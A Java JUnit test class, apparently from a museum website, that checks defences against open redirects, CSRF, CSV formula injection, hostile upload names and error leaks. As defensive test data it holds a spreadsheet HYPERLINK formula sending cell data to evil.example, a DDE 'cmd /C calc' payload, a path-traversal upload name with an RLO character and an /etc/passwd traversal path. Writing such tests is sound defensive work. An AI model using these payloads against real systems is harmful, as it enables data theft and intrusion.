package tw.museum.site.security;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.CookieManager;
import java.net.HttpCookie;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.EnumSet;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.context.MessageSource;
import tw.museum.catalog.user.StaffRole;
import tw.museum.site.support.MuseumTestBase;
import tw.museum.site.support.TestHttp;
import tw.museum.site.support.TestHttp.Reply;
import tw.museum.site.support.TestImages;

/**
 * The public and staff surfaces as an attacker meets them (docs/security.md lists each finding with its
 * test): sign-in throttling, session fixation, redirects after sign-in, security headers, CSRF on forms
 * and on the Basic-authenticated API, formula injection in the CSV dump, hostile upload names, and what
 * error answers and the actuator give away.
 */
class SecurityReviewTest extends MuseumTestBase {

    @Autowired
    MessageSource messages;

    private static final Pattern CSRF = Pattern.compile("name=\"_csrf\" value=\"([^\"]+)\"");

    @Test
    void everyAnswerCarriesTheSecurityHeaders() {
        for (String path : List.of("/", "/staff/login", "/api/v1/artifacts", "/objects/no-such-object",
                "/api/v1/artifacts/no-such-object", "/iiif/presentation/3/collection/top", "/oai?verb=Identify")) {
            Reply reply = anonymous().get(path);
            assertThat(reply.header("Content-Security-Policy")).as(path).contains("frame-ancestors", "default-src");
            assertThat(reply.header("X-Content-Type-Options")).as(path).isEqualTo("nosniff");
            assertThat(reply.header("X-Frame-Options")).as(path).isEqualTo("SAMEORIGIN");
            assertThat(reply.header("Referrer-Policy")).as(path).isEqualTo("strict-origin-when-cross-origin");
            assertThat(reply.header("Permissions-Policy")).as(path).contains("camera=()", "geolocation=()");
            assertThat(reply.header("Cross-Origin-Opener-Policy")).as(path).isEqualTo("same-origin");
            // HSTS only over HTTPS: on plain HTTP it would be ignored, and must not pin a development host
            assertThat(reply.header("Strict-Transport-Security")).as(path).isNull();
        }
        assertThat(anonymous().get("/").header("Content-Security-Policy")).doesNotContain("unsafe-inline", "unsafe-eval");
        assertThat(anonymous().get("/api/v1/artifacts").header("Content-Security-Policy"))
                .contains("default-src 'none'", "frame-ancestors 'none'");
    }

    @Test
    void signInIsThrottledPerAccountOnEveryWayInEvenWithTheRightPassword() {
        String victim = "victim" + Long.toString(System.nanoTime(), 36);
        users.create(victim, PASSWORD, "Target", EnumSet.of(StaffRole.CURATOR));
        TestHttp right = as(victim, PASSWORD);
        assertThat(right.get("/api/v1/artifacts?status=DRAFT").status()).isEqualTo(200);

        TestHttp wrong = as(victim, "not-the-password");
        for (int i = 0; i < 10; i++) {
            assertThat(wrong.get("/api/v1/artifacts?status=DRAFT").status()).isEqualTo(401);
        }
        assertThat(right.get("/api/v1/artifacts?status=DRAFT").status()).as("Basic, right password").isEqualTo(401);
        assertThat(right.get("/staff").status()).as("Basic on pages").isEqualTo(401);
        Browser browser = new Browser();
        browser.get("/staff/login");
        HttpResponse<String> form = browser.post("/staff/login", Map.of("username", victim, "password", PASSWORD));
        assertThat(form.headers().firstValue("Location").orElse("")).endsWith("/staff/login?throttled");
        assertThat(browser.get("/staff/login?throttled").body()).contains("login-throttled");
        // other accounts from the same address still sign in
        assertThat(as(CURATOR).get("/api/v1/artifacts?status=DRAFT").status()).isEqualTo(200);
    }

    @Test
    void signingInGivesANewSessionIdAndReturnsOnlyToThisSite() {
        Browser browser = new Browser();
        browser.get("/staff/artifacts"); // saved request, then the sign-in form
        String before = browser.sessionId();
        assertThat(before).isNotNull();
        browser.get("/staff/login?continue=https://evil.example/&redirect=https://evil.example/&next=//evil.example");
        HttpResponse<String> signedIn = browser.post("/staff/login?redirect=https://evil.example/",
                Map.of("username", CURATOR, "password", PASSWORD, "redirect", "https://evil.example/"));
        assertThat(signedIn.statusCode()).isEqualTo(302);
        URI location = URI.create(signedIn.headers().firstValue("Location").orElseThrow());
        assertThat(location.getHost() == null || location.getHost().equals("localhost")).as(location.toString()).isTrue();
        assertThat(location.getPath()).isEqualTo("/staff/artifacts");
        assertThat(browser.sessionId()).as("session fixation").isNotEqualTo(before);

        browser.get("/staff"); // the CSRF token changes at sign-in too
        HttpResponse<String> out = browser.post("/staff/logout", Map.of());
        // a script gets 204, a browser (Accept: text/html) the home page: never a URL named by a parameter
        assertThat(out.statusCode()).as(out.body()).isIn(204, 302);
        out.headers().firstValue("Location").ifPresent(l -> assertThat(URI.create(l).getPath()).isEqualTo("/"));
        assertThat(browser.get("/staff").statusCode()).as("signed out").isEqualTo(302);
    }

    @Test
    void formsWithoutTheirCsrfTokenAreRefused() {
        Browser browser = new Browser();
        browser.signIn(CURATOR, PASSWORD);
        for (String path : List.of("/staff/artifacts", "/staff/logout", "/health-check/request", "/loans/apply",
                "/donations/offer", "/health-check/case")) {
            HttpResponse<String> forged = browser.postWithoutToken(path, Map.of("objectNumber", "CSRF-1"));
            assertThat(forged.statusCode()).as(path).isEqualTo(403);
        }
        assertThat(as(CURATOR).get("/api/v1/artifacts/CSRF-1").status()).isEqualTo(404);
    }

    @Test
    void apiWritesFromPagesOfOtherSitesAreRefusedEvenWithCachedBasicCredentials() {
        Map<String, Object> record = Map.of("objectNumber", "XSITE-" + System.nanoTime(), "title", Map.of("zh", "跨站"));
        Reply fromOrigin = as(CURATOR).header("Origin", "https://evil.example").postJson("/api/v1/artifacts", record);
        assertThat(fromOrigin.status()).isEqualTo(403);
        assertThat(fromOrigin.header("Content-Type")).startsWith("application/problem+json");
        assertThat(fromOrigin.json().path("type").asString()).isEqualTo("urn:museum:problem:cross-site-request");
        assertThat(fromOrigin.json().path("detail").asString()).isEqualTo(
                messages.getMessage("problem.detail.cross-site-request", null, Locale.TRADITIONAL_CHINESE));
        Reply inEnglish = as(CURATOR).header("Origin", "https://evil.example").header("Accept-Language", "en")
                .postJson("/api/v1/artifacts", record);
        assertThat(inEnglish.json().path("detail").asString()).isEqualTo(
                messages.getMessage("problem.detail.cross-site-request", null, Locale.ENGLISH));
        Reply fetched = as(CURATOR).header("Sec-Fetch-Site", "cross-site").postJson("/api/v1/artifacts", record);
        assertThat(fetched.status()).isEqualTo(403);
        Reply sandboxed = as(CURATOR).header("Origin", "null").postJson("/api/v1/artifacts", record);
        assertThat(sandboxed.status()).isEqualTo(403);
        assertThat(as(CURATOR).get("/api/v1/artifacts/" + record.get("objectNumber")).status()).isEqualTo(404);

        // scripts, the importer and this site's own pages still write
        Reply script = as(CURATOR).postJson("/api/v1/artifacts", record);
        assertThat(script.status()).as(script.toString()).isEqualTo(201);
        Reply sameOrigin = as(CURATOR).header("Origin", "http://localhost:" + port).header("Sec-Fetch-Site", "same-origin")
                .postJson("/api/v1/artifacts", Map.of("objectNumber", "XSITE-OK-" + System.nanoTime(),
                        "title", Map.of("zh", "同站")));
        assertThat(sameOrigin.status()).as(sameOrigin.toString()).isEqualTo(201);
    }

    @Test
    void theCsvDumpDefusesFormulasInCatalogueText() {
        String number = "CSV-" + Long.toString(System.nanoTime(), 36);
        Reply created = asAdmin().postJson("/api/v1/artifacts", Map.of("objectNumber", number,
                "title", Map.of("zh", "=HYPERLINK(\"http://evil.example/?\"&A1,\"點我\")", "en", "@SUM(1+1)*cmd|' /C calc'!A0"),
                "description", Map.of("zh", "+1+1", "en", "-12.5")));
        assertThat(created.status()).as(created.toString()).isEqualTo(201);
        assertThat(asAdmin().post("/api/v1/artifacts/" + number + "/publish").status()).isEqualTo(200);
        assertThat(asAdmin().post("/api/v1/opendata/regenerate").status()).isEqualTo(200);

        String csv = anonymous().get("/opendata/artifacts.csv").text();
        String row = csv.lines().filter(l -> l.startsWith(number + ",")).findFirst().orElseThrow();
        assertThat(row).contains("\"'=HYPERLINK(", "'@SUM(1+1)", "'+1+1", ",-12.5")
                .doesNotContain(",\"=HYPERLINK", ",@SUM", ",+1+1");
    }

    @Test
    void hostileUploadNamesAreCleanedBeforeTheyAreKeptOrSent() {
        String number = "UPL-" + Long.toString(System.nanoTime(), 36);
        assertThat(asAdmin().postJson("/api/v1/artifacts", Map.of("objectNumber", number,
                "title", Map.of("zh", "上傳"))).status()).isEqualTo(201);
        Reply uploaded = asAdmin().upload("/api/v1/artifacts/" + number + "/media",
                "..\\..\\..\\windows\\evil\u202Egnp.exe\u0007.png", TestImages.png(32, 24), Map.of());
        assertThat(uploaded.status()).as(uploaded.toString()).isEqualTo(201);
        String kept = uploaded.json().path("filename").asString();
        assertThat(kept).isEqualTo("evilgnp.exe.png").doesNotContain("..", "\\", "/", "\u202E", "\u0007");

        Reply original = asAdmin().get("/media/" + uploaded.json().path("id").asLong() + "/original");
        assertThat(original.status()).isEqualTo(200);
        String disposition = original.header("Content-Disposition");
        assertThat(disposition).startsWith("inline").doesNotContain("..", "\\", "\r", "\n");
        assertThat(original.header("X-Content-Type-Options")).isEqualTo("nosniff");
        assertThat(original.header("Content-Type")).isEqualTo("image/png");
    }

    @Test
    void errorAnswersAndTheActuatorGiveNothingAway() {
        TestHttp anonymous = anonymous();
        List<Reply> errors = List.of(
                anonymous.get("/objects/%E0%A4"),                          // broken UTF-8
                anonymous.get("/api/v1/artifacts?page=not-a-number"),
                anonymous.get("/api/v1/search?q=" + "x".repeat(5000)),
                as(CURATOR).postJson("/api/v1/artifacts", "{\"objectNumber\": [unclosed"),
                as(CURATOR).putJson("/api/v1/artifacts/NO-SUCH", "{}"),
                anonymous.delete("/objects/x"),
                anonymous.get("/staff/../../etc/passwd"));
        for (Reply error : errors) {
            assertThat(error.status()).as(error.toString()).isBetween(400, 499);
            assertThat(error.text()).as(error.toString())
                    .doesNotContain("Exception", "at tw.museum", "org.springframework", "org.hibernate", "SQL", "jdbc");
        }
        for (String endpoint : List.of("env", "beans", "configprops", "heapdump", "threaddump", "loggers", "mappings",
                "metrics", "shutdown", "flyway", "scheduledtasks")) {
            assertThat(anonymous.get("/actuator/" + endpoint).status()).as(endpoint).isIn(401, 404);
            assertThat(asAdmin().get("/actuator/" + endpoint).status()).as(endpoint).isEqualTo(404);
        }
        String health = anonymous.get("/actuator/health").text();
        assertThat(health).as("details are for staff").doesNotContain("freeBytes", "documents\"", "backend", "/");
    }

    /** A browser: a cookie jar, the CSRF token of the last page, no automatic redirects. */
    private final class Browser {
        private final CookieManager cookies = new CookieManager();
        private final HttpClient client = HttpClient.newBuilder().cookieHandler(cookies)
                .followRedirects(HttpClient.Redirect.NEVER).build();
        private String csrf;

        HttpResponse<String> get(String path) {
            return send(HttpRequest.newBuilder(uri(path)).GET());
        }

        HttpResponse<String> post(String path, Map<String, String> fields) {
            return send(form(path, fields, true));
        }

        HttpResponse<String> postWithoutToken(String path, Map<String, String> fields) {
            return send(form(path, fields, false));
        }

        void signIn(String username, String password) {
            get("/staff/login");
            HttpResponse<String> answer = post("/staff/login", Map.of("username", username, "password", password));
            assertThat(answer.headers().firstValue("Location").orElse("")).doesNotContain("error");
            get("/staff");
        }

        String sessionId() {
            return cookies.getCookieStore().getCookies().stream().filter(c -> c.getName().equals("JSESSIONID"))
                    .map(HttpCookie::getValue).findFirst().orElse(null);
        }

        private HttpRequest.Builder form(String path, Map<String, String> fields, boolean withToken) {
            StringBuilder body = new StringBuilder();
            fields.forEach((k, v) -> body.append(body.isEmpty() ? "" : "&").append(k).append('=')
                    .append(URLEncoder.encode(v, StandardCharsets.UTF_8)));
            if (withToken && csrf != null) {
                body.append(body.isEmpty() ? "" : "&").append("_csrf=").append(URLEncoder.encode(csrf, StandardCharsets.UTF_8));
            }
            return HttpRequest.newBuilder(uri(path)).header("Content-Type", "application/x-www-form-urlencoded")
                    .POST(HttpRequest.BodyPublishers.ofString(body.toString()));
        }

        private HttpResponse<String> send(HttpRequest.Builder request) {
            try {
                HttpResponse<String> response = client.send(request.build(), HttpResponse.BodyHandlers.ofString());
                Matcher m = CSRF.matcher(response.body());
                if (m.find()) {
                    csrf = m.group(1);
                }
                return response;
            } catch (java.io.IOException e) {
                throw new IllegalStateException(e);
            } catch (InterruptedException e) {
                Thread.currentThread().interrupt();
                throw new IllegalStateException(e);
            }
        }

        private URI uri(String path) {
            return URI.create("http://localhost:" + port + path);
        }
    }
}
